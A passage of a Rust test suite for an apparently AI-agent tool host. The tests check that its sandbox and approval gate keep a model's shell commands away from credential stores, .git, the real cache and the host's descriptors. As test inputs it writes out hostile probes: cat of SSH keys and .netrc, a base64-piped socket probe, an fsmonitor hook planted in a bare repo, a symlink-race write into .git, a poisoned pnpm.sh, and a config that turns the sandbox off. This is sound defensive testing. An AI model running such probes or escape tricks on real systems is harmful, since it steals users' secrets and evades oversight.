            .env("PATH", &path)
            .args(["call", "shell", r#"{"command":"true"}"#])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!(
                "{} is installed but cannot make a sandbox here",
                bwrap.display()
            )) && stderr
                .contains("commands run WITHOUT a sandbox, with your permissions, and without asking: auto_run is on"),
            "said at every start, the probe's answer remembered or not: {stderr}"
        );
    }
}

/// An iota line is read once, when it is planned: a line that named no
/// program leaving the sandbox then runs sandboxed even if, by the time it
/// runs, its first word leads to the binary; a line that did leave only
/// after the gate let it, and not at all where nobody can answer. In
/// process, through the library: the plan, the gate and the run are the
/// host's own.
#[test]
fn an_iota_line_leaves_the_sandbox_only_as_planned_and_approved() {
    let Some(p) = sandboxed() else { return };
    use iota_host::internals::{Arguments, Toolset, gate};
    use std::sync::Arc;
    let shell = iota_host::internals::ShellToolset::new(Default::default(), p.root());
    let spec = &shell.tools()[0];
    let session = Arc::new(iota_host::internals::Session::new());
    let nobody: Arc<dyn iota_host::Ui> = Arc::new(iota_host::NoUi);
    let allows: Arc<dyn iota_host::Ui> = Arc::new(iota_host::ScriptedUi::parse(r#"["once"]"#).unwrap());
    // In process, "the running binary" is this test binary: the line runs
    // its `prints_the_model_root` test, which says whether it ran as an
    // iota exception (IOTA_MODEL_ROOT is set only there).
    let me = std::fs::canonicalize(std::env::current_exe().unwrap()).unwrap();
    let args =
        Arguments::new(json!({"command": "./me --exact sandbox::prints_the_model_root --nocapture"}).to_string());
    let run = |ui: &Arc<dyn iota_host::Ui>| {
        let plan = shell.plan(spec, args.clone()).unwrap();
        gate(&shell, &plan, &session, ui).map(|cleared| shell.invoke(&session, ui, &plan, &cleared).result.text)
    };
    // Planned while `./me` is nothing: sandboxed, nobody asked; the link
    // made before it runs changes nothing.
    let plan = shell.plan(spec, args.clone()).unwrap();
    let cleared = gate(&shell, &plan, &session, &nobody).expect("a sandboxed line needs no question");
    std::os::unix::fs::symlink(&me, p.path("me")).unwrap();
    let unasked = shell.invoke(&session, &nobody, &plan, &cleared).result.text;
    assert!(!unasked.contains("MODEL_ROOT="), "{unasked}");
    // Planned now: it leaves the sandbox, so it asks; nobody answers here.
    assert_eq!(run(&nobody), None, "an iota line nobody allowed does not run");
    let asked = run(&allows).expect("allowed once");
    assert!(asked.contains(&format!("MODEL_ROOT={}", p.root().display())), "{asked}");
}

/// Not a check of its own: what the test above runs as the iota line.
#[test]
fn prints_the_model_root() {
    if let Some(root) = std::env::var_os("IOTA_MODEL_ROOT") {
        println!("MODEL_ROOT={}", root.to_string_lossy());
    }
}

/// A bare repository's layout at a root without a repository (HEAD,
/// objects/, refs/, a config with `core.fsmonitor`) cannot be made either.
#[test]
fn a_bare_repository_cannot_be_planted_at_the_root() {
    let Some(p) = sandboxed() else { return };
    let proof = p.outside().join("bare-fsmonitor-ran");
    std::fs::create_dir_all(p.path("src")).unwrap();
    let r = sh(
        &p,
        &format!(
            "mkdir -p objects refs; echo 'ref: refs/heads/main' > HEAD; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {}; false\"\\n' > config; true",
            proof.display()
        ),
    );
    assert!(!p.path("HEAD").exists(), "no HEAD left at the root: {}", r.text);
    for dir in [p.root().to_path_buf(), p.path("src")] {
        let status = std::process::Command::new("git")
            .arg("status")
            .current_dir(&dir)
            .env("GIT_CEILING_DIRECTORIES", p.root().parent().unwrap())
            .output()
            .unwrap();
        assert!(
            !status.status.success(),
            "no repository for git to find from {}",
            dir.display()
        );
    }
    assert!(!proof.exists());
}

/// The user's credential stores are not there inside the sandbox: no key
/// to copy, no agent socket to talk to.
#[test]
fn credential_stores_in_the_home_are_hidden() {
    let Some(p) = sandboxed() else { return };
    let home = support::visible_outside_dir();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").unwrap();
    std::fs::write(home.path().join(".netrc"), "machine x login u password NETRC-SECRET").unwrap();
    std::fs::create_dir_all(home.path().join(".gnupg")).unwrap();
    let socket = home.path().join(".gnupg/S.gpg-agent");
    let agent = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    agent.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('{}'); print('connected')\nexcept OSError as e:\n    print('refused', e.errno)\n",
        socket.display()
    );
    let out = p
        .command()
        .env("HOME", home.path())
        .args(["call", "shell"])
        .arg(
            json!({"command": format!(
                "cat ~/.ssh/id_ed25519 ~/.netrc; ls -A ~/.ssh | wc -l; printf '%s' '{}' | base64 -d | python3 -",
                base64(&script)
            )})
            .to_string(),
        )
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.contains("PRIVATE-KEY-MATERIAL") && !text.contains("NETRC-SECRET"),
        "{text}"
    );
    assert!(text.contains("refused"), "the probe ran: {text}");
    assert!(agent.accept().is_err(), "nothing reached the agent socket");
}

/// A relative `$IOTA_CONFIG` is the user's, read where the user ran
/// iota-host: an iota call in a directory the model chose (and wrote a
/// config into) does not pick up that one instead.
#[test]
fn a_relative_iota_config_is_not_read_from_the_models_directory() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let home = support::visible_outside_dir();
    let proof = home.path().join("proof");
    let inner = json!({"command": format!("touch {}", proof.display())}).to_string();
    let out = p
        .command()
        .env("IOTA_CONFIG", "iota.yaml")
        .args(["call", "--json", "shell"])
        .arg(json!({"command": "mkdir -p sub && printf 'agents:\\n  d:\\n    tools:\\n      shell: {sandbox: off, auto_run: true}\\n' > sub/iota.yaml"}).to_string())
        .arg("shell")
        .arg(json!({"command": format!("{} call shell '{inner}'", support::BIN), "cwd": "sub"}).to_string())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(p.path("sub/iota.yaml").exists(), "{text}");
    assert!(
        text.contains(&format!("cannot read config {}", p.path("iota.yaml").display())),
        "{text}"
    );
    assert!(!proof.exists(), "the model's config was not used");
}

/// An iota line run from a directory outside the project is not an iota
/// call: the child's relative paths would resolve there.
#[test]
fn an_iota_line_from_outside_the_root_stays_in_the_sandbox() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let elsewhere = support::visible_outside_dir();
    let r = p.call(
        "shell",
        json!({"command": format!("{} --version", support::BIN), "cwd": elsewhere.path()}),
    );
    assert!(!r.header.ends_with("(outside the sandbox)"), "{}", r.header);
}

/// A background command of the same session flips `d` between nothing and
/// a link to `.git` while the model writes `d/commondir` under `auto_write`:
/// the write goes through the directory the gate resolved and held, so no
/// write lands in `.git` unasked, however the flips fall (tests/writes.rs
/// does the same from a process the session does not know).
#[test]
fn a_link_flipped_under_a_write_never_lands_it_in_git() {
    let Some(p) = sandboxed() else { return };
    let p = p.config("agents:\n  a:\n    tools:\n      shell: {auto_run: true}\n      code: {auto_write: true}\n");
    std::fs::create_dir_all(p.path(".git")).unwrap();
    p.write(
        "flip.py",
        "import os, shutil, time\nflips = 0\nopen('started', 'w').close()\nwhile not os.path.exists('stop'):\n    try:\n        os.symlink('.git', 'd'); flips += 1\n    except OSError:\n        pass\n    time.sleep(0.002)\n    if os.path.islink('d'):\n        os.unlink('d')\n    elif os.path.isdir('d'):\n        shutil.rmtree('d', ignore_errors=True)\n    time.sleep(0.002)\nopen('flips', 'w').write(str(flips))\n",
    );
    let mut calls: Vec<(&str, serde_json::Value)> = vec![
        ("shell", json!({"command": "python3 flip.py", "background": true})),
        (
            "shell",
            json!({"command": "while [ ! -e started ]; do sleep 0.01; done; echo flipping"}),
        ),
    ];
    // Writes, each after a pause in which the flips go on.
    for _ in 0..150 {
        calls.push(("shell", json!({"command": "sleep 0.005"})));
        calls.push(("write_file", json!({"path": "d/commondir", "content": "../evil\n"})));
    }
    // The job ends when told (the call waits for its jobs).
    calls.push(("shell", json!({"command": "touch stop"})));
    let rs = p.calls(&calls);
    assert_eq!(rs[1].text, "flipping");
    support::eventually("the flipper stopped", || p.path("flips").exists());
    let flips: u32 = String::from_utf8(p.read("flips")).unwrap().parse().unwrap();
    assert!(flips > 100, "the link was flipped throughout ({flips} times)");
    assert!(
        !p.path(".git/commondir").exists(),
        "a write landed in .git unasked: {:?} {:?}",
        std::fs::read_dir(p.path(".git"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect::<Vec<_>>(),
        rs.iter()
            .filter(|r| r.tool == "write_file")
            .map(|r| r.text.chars().take(40).collect::<String>())
            .collect::<std::collections::BTreeSet<_>>()
    );
}

/// Nothing the host holds reaches a command but its stdio: not a descriptor
/// the host itself inherited (fd 9 here, left open across its exec on
/// purpose), not its own files (wasmtime's, the compiled components',
/// another session's), whether the command is the model's, sandboxed or
/// not, or a component's `process` command.
#[test]
fn a_command_inherits_nothing_but_its_stdio() {
    let Some(p) = sandboxed() else { return };
    let hostile = format!(
        "toolsets:\n  hostile:\n    path: {}/hostile.wasm\n    grant: [process, parallel]\n",
        support::COMPONENTS
    );
    // bash's own descriptors, listed by another process (ls opens its own);
    // no pipe, whose ends bash would hold while it starts the pipeline, and
    // a second command, so that bash does not become ls.
    let list = "ls /proc/$$/fd; true";
    for (config, tool, args) in [
        (
            "agents:\n  a:\n    tools:\n      shell:\n".to_string(),
            "shell",
            json!({"command": list}),
        ),
        (
            "agents:\n  a:\n    tools:\n      shell: {sandbox: off, auto_run: true}\n".to_string(),
            "shell",
            json!({"command": list}),
        ),
        (
            format!("{hostile}agents:\n  a:\n    tools:\n      hostile:\n"),
            "run",
            json!({"line": list}),
        ),
    ] {
        let q = Project::new().config(&config);
        let mut command = q.command();
        command.args(["call", "--json", tool, &args.to_string()]);
        let inherited = std::fs::File::open(p.root()).unwrap();
        let fd = std::os::fd::AsRawFd::as_raw_fd(&inherited);
        // SAFETY: dup2 and fcntl on descriptors of the child, before exec.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut command, move || {
                if libc::dup2(fd, 9) == -1 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = command.output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let result: serde_json::Value = serde_json::from_str(stdout.lines().next().unwrap()).unwrap();
        let text = result["text"].as_str().unwrap();
        let listed: Vec<&str> = text.split('[').next().unwrap().split_whitespace().collect();
        assert_eq!(listed, ["0", "1", "2"], "{config}: {text}");
    }
}

/// A project whose home directory is visible inside the sandbox (outside
/// /tmp, which the sandbox replaces), with `shell` configured as `shell`.
fn visible_home_project(base: &Path, shell: &str) -> Project {
    Project::new_in(base).config(&format!("agents:\n  a:\n    tools:\n      shell: {shell}\n"))
}

/// What a sandboxed `cat` of every file under `paths` prints: the secrets
/// it could read.
fn readable(p: &Project, paths: &[std::path::PathBuf]) -> String {
    let quoted: Vec<String> = paths.iter().map(|p| format!("'{}'", p.display())).collect();
    let command = format!(
        "for p in {}; do if [ -d \"$p\" ]; then find \"$p\" -type f -exec cat {{}} + 2>/dev/null; else cat \"$p\" 2>/dev/null; fi; done; echo END",
        quoted.join(" ")
    );
    sh(p, &command).text
}

/// With `home: visible`, every well-known credential store (by the list)
/// and every file whose name looks secret (by the search), planted in a
/// home directory the sandbox can see, is unreadable inside; an ordinary
/// dotfile beside them is readable, so the test is not passing for a home
/// it cannot see.
#[test]
fn credentials_are_hidden_by_list_and_by_name() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let p = visible_home_project(base.path(), "{home: visible}");
    let home = p.home().unwrap().to_path_buf();
    let plant = |path: &std::path::Path, as_dir: bool| {
        let file = if as_dir {
            path.join("stored")
        } else {
            path.to_path_buf()
        };
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, "SECRET-VALUE").unwrap();
    };
    let mut planted = Vec::new();
    for store in iota_host::internals::KNOWN_CREDENTIALS {
        use iota_host::internals::CredentialBase;
        let base = match store.base {
            CredentialBase::Home => home.clone(),
            CredentialBase::Config => home.join(".config"),
            CredentialBase::Data => home.join(".local/share"),
            CredentialBase::Cache => home.join(".cache"),
        };
        let path = base.join(store.path);
        // A store named like a file is planted as one; the rest as directories.
        let as_dir = !store.path.rsplit('/').next().unwrap().contains('.') || store.path.ends_with(".d");
        plant(&path, as_dir && !path.exists());
        planted.push(path);
    }
    for by_name in [
        ".newtool/session/oauth_token",
        ".config/newcloud/credentials.json",
        ".local/share/app/private.pem",
        ".tooly/api_key",
        ".config/x/client_secret.json",
        ".config/vpn/work.ovpn",
    ] {
        plant(&home.join(by_name), false);
        planted.push(home.join(by_name));
    }
    std::fs::write(home.join(".config/ordinary.conf"), "ORDINARY-VALUE").unwrap();
    let mut all = planted.clone();
    all.push(home.join(".config/ordinary.conf"));
    let text = readable(&p, &all);
    assert!(text.contains("ORDINARY-VALUE"), "the home directory is visible: {text}");
    assert!(
        !text.contains("SECRET-VALUE"),
        "a credential was readable inside the sandbox: {}",
        text.lines().take(20).collect::<Vec<_>>().join("\n")
    );
    assert!(planted.len() >= 66);
}

/// By default a sandboxed command sees of the home directory only the
/// toolchains' directories, read-only, and not the credentials in them:
/// the stores a search by list and by name misses (a key exported in
/// `.bashrc`, a snap's Firefox logins, a file under a linked `~/.config`)
/// are out of sight because nothing but the toolchains is in sight.
#[test]
fn by_default_the_home_directory_shows_only_the_toolchains() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let p = visible_home_project(base.path(), "{}");
    let home = p.home().unwrap().to_path_buf();
    plant(
        &home,
        &[
            (".cargo/bin/tool", "SHOWN-1"),
            (".rustup/settings.toml", "SHOWN-2"),
            (".gitconfig", "SHOWN-3"),
            (".cargo/credentials.toml", "HIDDEN-1"),
            (".bashrc", "export OPENAI_API_KEY=HIDDEN-2"),
            ("snap/firefox/common/.mozilla/firefox/p/logins.json", "HIDDEN-3"),
            ("dotfiles/config/mytool/settings", "HIDDEN-4"),
            (".config/fish/fish_variables", "HIDDEN-5"),
            (".msmtprc", "HIDDEN-6"),
            (".local/share/atuin/key", "HIDDEN-7"),
        ],
    );
    std::os::unix::fs::symlink(home.join("dotfiles/config"), home.join(".config/linked")).unwrap();
    let text = readable(&p, std::slice::from_ref(&home));
    let text = text
        + &readable(
            &p,
            &[home.join(".cargo"), home.join(".rustup"), home.join(".gitconfig")],
        );
    let text = text + &readable(&p, &[home.join(".config/linked/mytool/settings")]);
    assert!(
        text.contains("SHOWN-1") && text.contains("SHOWN-2") && text.contains("SHOWN-3"),
        "{text}"
    );
    assert!(!text.contains("HIDDEN"), "{text}");
    let r = sh(&p, "touch ~/.cargo/bin/planted ~/new 2>&1; echo done");
    assert!(r.text.contains("done"));
    assert!(!home.join("new").exists() && !home.join(".cargo/bin/planted").exists());
}

/// What the default view shows is searched as it really is: a known store
/// linked into a directory `read:` shows (`~/.kube` into a dotfiles
/// repository), a toolchain's directory that is a link to a store (`~/go`
/// to `~/.aws`), and the build configurations of the toolchains that hold
/// a login (`~/.cargo/config.toml`'s registry token, npm's global `npmrc`
/// at the top of its prefix and deep in nvm's and mise's, a token in a URL
/// of `~/.gitconfig`, an SMTP password in git's XDG config) are out of
/// sight. A configuration
/// without one, and the rest of the dotfiles, stay readable.
#[test]
fn stores_reached_through_links_and_logins_in_build_configurations_are_out_of_sight() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let p = Project::new_in(base.path());
    let home = p.home().unwrap().to_path_buf();
    let p = p.config(&format!(
        "agents:\n  a:\n    tools:\n      shell: {{read: ['{}']}}\n",
        home.join("dotfiles").display()
    ));
    plant(
        &home,
        &[
            ("dotfiles/kube/config", "HIDDEN-1"),
            ("dotfiles/vimrc", "SHOWN-1"),
            (".aws/credentials", "HIDDEN-2"),
            (".cargo/config.toml", "[registry]\ntoken = \"HIDDEN-3\"\n"),
            (".npm-global/etc/npmrc", "//registry.npmjs.org/:_authToken=HIDDEN-4\n"),
            (
                ".gitconfig",
                "[url \"https://x:HIDDEN-5@github.com/\"]\n\tinsteadOf = https://github.com/\n",
            ),
            (".cargo/config", "[build]\njobs = 2 # SHOWN-2\n"),
            (
                ".nvm/versions/node/v20.11.0/etc/npmrc",
                "//registry.npmjs.org/:_authToken=HIDDEN-6\n",
            ),
            (
                ".local/share/mise/installs/node/20.11.0/etc/npmrc",
                "//registry.npmjs.org/:_authToken=HIDDEN-7\n",
            ),
            (".config/git/config", "[sendemail]\n\tsmtpPass = HIDDEN-8\n"),
            (".nvm/versions/node/v20.11.0/bin/node", "SHOWN-3"),
            // What a second review read past those.
            (
                ".rbenv/versions/3.3.0/etc/gemrc",
                ":sources:\n- https://ci-bot:HIDDEN-9@gems.example/\n",
            ),
            (
                ".pyenv/versions/miniconda3-latest/.condarc",
                "channels:\n  - https://conda.anaconda.org/t/ab12-cd34ef56-7890-abcd-ef12/HIDDEN-10\n",
            ),
            (
                ".pyenv/versions/miniconda3-latest/condarc.d/corp.yml",
                "channel_alias: https://u:HIDDEN-11@conda.example\n",
            ),
            (
                ".sdkman/candidates/gradle/8.5/init.d/corp-repo.gradle",
                "credentials { password \"HIDDEN-12\" }\n",
            ),
            (
                ".nvm/versions/node/v20.11.0/lib/node_modules/npm/npmrc",
                "//registry.npmjs.org/:_authToken=HIDDEN-13\n",
            ),
        ],
    );
    std::os::unix::fs::symlink(home.join("dotfiles/kube"), home.join(".kube")).unwrap();
    std::os::unix::fs::symlink(home.join(".aws"), home.join("go")).unwrap();
    let text = readable(&p, std::slice::from_ref(&home))
        + &readable(
            &p,
            &[
                home.join("dotfiles"),
                home.join(".kube/config"),
                home.join("go/credentials"),
                home.join(".cargo"),
                home.join(".npm-global"),
                home.join(".gitconfig"),
                home.join(".nvm"),
                home.join(".local/share/mise"),
                home.join(".config/git"),
                home.join(".rbenv"),
                home.join(".pyenv"),
                home.join(".sdkman"),
            ],
        );
    assert!(
        text.contains("SHOWN-1") && text.contains("SHOWN-2") && text.contains("SHOWN-3"),
        "{text}"
    );
    assert!(!text.contains("HIDDEN"), "{text}");
}

/// What lies outside the home directory but is the user's all the same —
/// XDG directories pointed elsewhere, a store a tool's variable names — is
/// not in sight either: `gh`'s token under an `XDG_CONFIG_HOME` outside the
/// home, uv's credentials under such an `XDG_DATA_HOME`, a `DOCKER_CONFIG`
/// directory, in the default view; the variable's store with `home:
/// visible` too. An ordinary file beside them stays readable.
#[test]
fn stores_outside_the_home_directory_are_out_of_sight_too() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let elsewhere = support::visible_outside_dir();
    let e = elsewhere.path();
    plant(
        e,
        &[
            ("xdgconf/gh/hosts.yml", "HIDDEN-1"),
            ("xdgdata/uv/credentials", "HIDDEN-2"),
            ("docker/config.json", "HIDDEN-3"),
            ("cargo-real/credentials.toml", "HIDDEN-4"),
            ("plain.txt", "SHOWN-1"),
        ],
    );
    for shell in ["{}", "{home: visible}"] {
        let p = visible_home_project(base.path(), shell);
        // A toolchain directory that is a link to elsewhere: its store is
        // hidden where it really is too.
        let cargo = p.home().unwrap().join(".cargo");
        if !cargo.exists() {
            std::os::unix::fs::symlink(e.join("cargo-real"), &cargo).unwrap();
        }
        let out = p
            .command()
            .env("XDG_CONFIG_HOME", e.join("xdgconf"))
            .env("XDG_DATA_HOME", e.join("xdgdata"))
            .env("DOCKER_CONFIG", e.join("docker"))
            .args(["call", "shell"])
            .arg(
                json!({"command": format!(
                    "cat {0}/xdgconf/gh/hosts.yml {0}/xdgdata/uv/credentials {0}/docker/config.json {0}/cargo-real/credentials.toml ~/.cargo/credentials.toml {0}/plain.txt 2>/dev/null; echo END",
                    e.display()
                )})
                .to_string(),
            )
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("SHOWN-1"), "{shell}: {text}");
        assert!(!text.contains("HIDDEN"), "{shell}: {text}");
    }
}

/// With `home: visible`, the search is not spent on what sandboxed
/// commands write (a `write:` directory in the home, the root), and a
/// search cut short by its bound shows the toolchains' view instead of
/// leaving what it did not reach visible.
#[test]
fn a_visible_home_is_not_searched_where_commands_write_and_falls_back_when_cut_short() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let p = visible_home_project(base.path(), "{home: visible, write: [~/.work]}");
    let home = p.home().unwrap().to_path_buf();
    std::fs::create_dir_all(home.join(".work")).unwrap();
    std::fs::create_dir_all(home.join(".local/share/mytool")).unwrap();
    std::fs::write(home.join(".local/share/mytool/api_token"), "SECRET-DEEP").unwrap();
    std::fs::write(home.join(".config-plain"), "ORDINARY-VALUE").unwrap();
    // A command's own files, many: once they spent the search's bound.
    let r = sh(
        &p,
        "mkdir -p ~/.work/junk && cd ~/.work/junk && seq 1 120000 | xargs touch && echo made",
    );
    assert!(r.text.contains("made"), "{}", r.text);
    let secret = home.join(".local/share/mytool/api_token");
    let text = readable(&p, &[secret.clone(), home.join(".config-plain")]);
    assert!(text.contains("ORDINARY-VALUE"), "still the visible view: {text}");
    assert!(!text.contains("SECRET-DEEP"), "{text}");
    // A home too large to search whole is shown as the toolchains' view.
    for i in 0..120_000 {
        if i % 1000 == 0 {
            std::fs::create_dir_all(home.join(format!(".big/{}", i / 1000))).unwrap();
        }
        std::fs::write(home.join(format!(".big/{}/{i}", i / 1000)), "").unwrap();
    }
    let text = readable(&p, &[secret, home.join(".config-plain")]);
    assert!(
        !text.contains("SECRET-DEEP") && !text.contains("ORDINARY-VALUE"),
        "{text}"
    );
}

/// `home: hidden` shows a sandboxed command nothing of the home directory
/// but what `read:` names (and the cache, the project, `write:` paths).
#[test]
fn a_hidden_home_shows_only_what_read_names() {
    if !support::sandbox_works() {
        return;
    }
    let base = support::visible_outside_dir();
    let p = visible_home_project(base.path(), "{home: hidden, read: [~/.gitconfig, ~/tools]}");
    let home = p.home().unwrap().to_path_buf();
    plant(
        &home,
        &[
            (".gitconfig", "SHOWN-1"),
            ("tools/bin/x", "SHOWN-2"),
            (".bashrc", "HIDDEN-1"),
            (".config/app/settings.json", "HIDDEN-2"),
            ("tools/.env.token", "HIDDEN-3"),
        ],
    );
    let text = readable(&p, std::slice::from_ref(&home));
    let text = text + &readable(&p, &[home.join(".gitconfig"), home.join("tools")]);
    assert!(text.contains("SHOWN-1") && text.contains("SHOWN-2"), "{text}");
    assert!(!text.contains("HIDDEN"), "{text}");
    let r = sh(&p, "touch ~/.gitconfig ~/new 2>&1; echo done");
    assert!(r.text.contains("done"));
    assert!(!home.join("new").exists());
    assert_eq!(std::fs::read(home.join(".gitconfig")).unwrap(), b"SHOWN-1");
}

/// What a sandboxed command writes to the cache directory stays with the
/// project: the next sandboxed command of the same project sees it, the
/// real cache (which tools outside the sandbox run from) never does, and
/// another project starts without it. With this machine's bubblewrap the
/// project has a cache of its own, and the host says so at start; where
/// bubblewrap mounts overlays (0.9 and later, `IOTA_TEST_OVERLAY_BWRAP`)
/// the real cache is read through the overlay too.
#[test]
fn a_cache_write_stays_with_the_project_and_never_reaches_the_real_cache() {
    if !support::sandbox_works() {
        return;
    }
    let overlay_bwrap = std::env::var_os("IOTA_TEST_OVERLAY_BWRAP").map(std::path::PathBuf::from);
    let with_overlay = support::require(
        "a bubblewrap that mounts overlays (0.9 or later; IOTA_TEST_OVERLAY_BWRAP, which .ci/run sets)",
        overlay_bwrap.is_some(),
    );
    let overlay_dir = overlay_bwrap
        .filter(|_| with_overlay)
        .and_then(|b| b.parent().map(Path::to_path_buf));
    for bwrap_dir in [None].into_iter().chain(overlay_dir.map(Some)) {
        let base = support::visible_outside_dir();
        let p = visible_home_project(base.path(), "{}").with_private_cache();
        let q = visible_home_project(base.path(), "{}").with_private_cache();
        let cache = p.home().unwrap().join(".cache");
        std::fs::create_dir_all(cache.join("corepack")).unwrap();
        std::fs::write(cache.join("corepack/real.txt"), "REAL").unwrap();
        let with_path = |project: &Project, command: &str| {
            let mut cmd = project.command();
            if let Some(dir) = &bwrap_dir {
                let path = std::env::var("PATH").unwrap_or_default();
                cmd.env("PATH", format!("{}:{path}", dir.display()));
            }
            cmd.args(["call", "--json", "shell", &json!({"command": command}).to_string()]);
            let out = cmd.output().unwrap();
            (
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        };
        let planted = "mkdir -p ~/.cache/corepack/pnpm && echo 'echo PWNED' > ~/.cache/corepack/pnpm/pnpm.sh && cat ~/.cache/corepack/real.txt; echo planted";
        let (first, said) = with_path(&p, planted);
        assert!(first.contains("planted"), "{first}{said}");
        let overlay = bwrap_dir.is_some();
        assert_eq!(
            first.contains("REAL"),
            overlay,
            "the real cache is read through an overlay only: {first}"
        );
        if !overlay {
            assert!(
                said.contains("instead of"),
                "the host says the cache is the project's own: {said}"
            );
        }
        let (again, _) = with_path(&p, "cat ~/.cache/corepack/pnpm/pnpm.sh");
        assert!(
            again.contains("echo PWNED"),
            "the project's next command sees it: {again}"
        );
        assert!(!cache.join("corepack/pnpm").exists(), "the real cache never has it");
        assert_eq!(std::fs::read(cache.join("corepack/real.txt")).unwrap(), b"REAL");
        let (other, _) = with_path(&q, "cat ~/.cache/corepack/pnpm/pnpm.sh 2>&1; echo end");
        assert!(
            !other.contains("echo PWNED"),
            "another project starts without it: {other}"
        );
    }
}

/// Background jobs that flood their output stop filling their logs on the
/// host at the cap (`max_log`, MiB), say so at the end of the log, and go on
/// running; the session's logs together stop at four times the cap.
#[test]
fn jobs_flooding_their_logs_stop_at_the_cap() {
    let Some(p) = sandboxed() else { return };
    let p = p.config("agents:\n  a:\n    tools:\n      shell: {max_log: 1}\n");
    let host = support::LibraryHost::new(&p);
    let logs: Vec<std::path::PathBuf> = (0..6)
        .map(|i| {
            let r = host.call("shell", json!({"command": format!("yes flood{i}"), "background": true}));
            let log = r
                .text
                .split_whitespace()
                .find(|w| w.ends_with(".log"))
                .expect("the receipt names the log");
            std::path::PathBuf::from(log)
        })
        .collect();
    let sizes = || -> Vec<u64> {
        logs.iter()
            .map(|l| std::fs::metadata(l).map_or(0, |m| m.len()))
            .collect()
    };
    // Flooding, the logs fill up to the caps within moments, then stay.
    std::thread::sleep(std::time::Duration::from_secs(3));
    let settled = sizes();
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert_eq!(sizes(), settled, "the logs grow no more");
    let marker = 400;
    assert!(settled.iter().all(|&s| s <= (1 << 20) + marker), "{settled:?}");
    assert!(settled.iter().sum::<u64>() <= (4 << 20) + 6 * marker, "{settled:?}");
    let capped = logs
        .iter()
        .filter(|l| String::from_utf8_lossy(&std::fs::read(l).unwrap()).contains("not kept in this log"))
        .count();
    assert_eq!(capped, 6, "every log says where it stopped");
    let running = support::processes_matching("yes flood");
    assert!(running.len() >= 6, "the jobs go on: {running:?}");
    // The session's end takes the logs with it: nothing is left in /tmp.
    drop(host);
    let left: Vec<_> = logs.iter().filter(|l| l.exists()).collect();
    assert!(left.is_empty(), "logs left after the session: {left:?}");
}

/// The scratch directories (`iota-*`) in the temp directory `temp`.
fn scratch_dirs_in(temp: &std::path::Path) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(temp)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|path| path.file_name().unwrap().to_string_lossy().starts_with("iota-"))
        .collect()
}

/// Waits up to 30 s for `what`, failing the test past that.
fn wait_for(what: &dyn Fn() -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !what() {
        assert!(std::time::Instant::now() < deadline, "timed out");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// `call shell true` in `p` with `temp` as the temp directory, which must succeed.
fn shell_true_with_temp(p: &Project, temp: &std::path::Path) {
    let out = p
        .command()
        .env("TMPDIR", temp)
        .args(["call", "shell", r#"{"command":"true"}"#])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

/// A host killed with `kill -9` (an iota child stopped by its parent's
/// timeout is killed so) cannot remove its directory under the temp
/// directory, with what its sandboxed commands wrote to /tmp and their
/// logs; the next host to run a command removes it, and leaves alone the
/// one of a host still running. The placeholders killed hosts made in the
/// project go with the next session's end.
#[test]
fn what_a_killed_host_left_in_tmp_is_removed_by_the_next() {
    let Some(p) = sandboxed() else { return };
    let temp = tempfile::tempdir().unwrap();
    let scratch_dirs = || scratch_dirs_in(temp.path());
    let start = |command: &str| {
        let mut cmd = p.command();
        cmd.env("TMPDIR", temp.path())
            .args(["call", "shell"])
            .arg(json!({"command": command}).to_string())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        cmd.spawn().unwrap()
    };
    let mut killed = start("head -c 5000000 /dev/zero > /tmp/big; echo written; sleep 60");
    wait_for(&|| {
        scratch_dirs()
            .iter()
            .any(|d| d.join("tmp/big").metadata().is_ok_and(|m| m.len() == 5_000_000))
    });
    let left = scratch_dirs();
    killed.kill().unwrap();
    killed.wait().unwrap();
    assert!(left.iter().all(|d| d.exists()), "nothing removed it yet");
    let mut running = start("echo alive > /tmp/mine; sleep 60");
    wait_for(&|| scratch_dirs().iter().any(|d| d.join("tmp/mine").exists()));
    shell_true_with_temp(&p, temp.path());
    assert!(left.iter().all(|d| !d.exists()), "the killed host's directory is gone");
    assert!(
        scratch_dirs().iter().any(|d| d.join("tmp/mine").exists()),
        "a running host's directory is left alone"
    );
    assert!(p.path(".git").is_dir(), "a placeholder while a host stands on it");
    running.kill().unwrap();
    running.wait().unwrap();
    // The placeholders the killed hosts made in the project: the next
    // session's end removes them.
    shell_true_with_temp(&p, temp.path());
    for placeholder in [".git", ".iota", "HEAD"] {
        assert!(!p.path(placeholder).exists(), "{placeholder} left in the project");
    }
}

/// Every repository below the root is read-only inside the sandbox like the
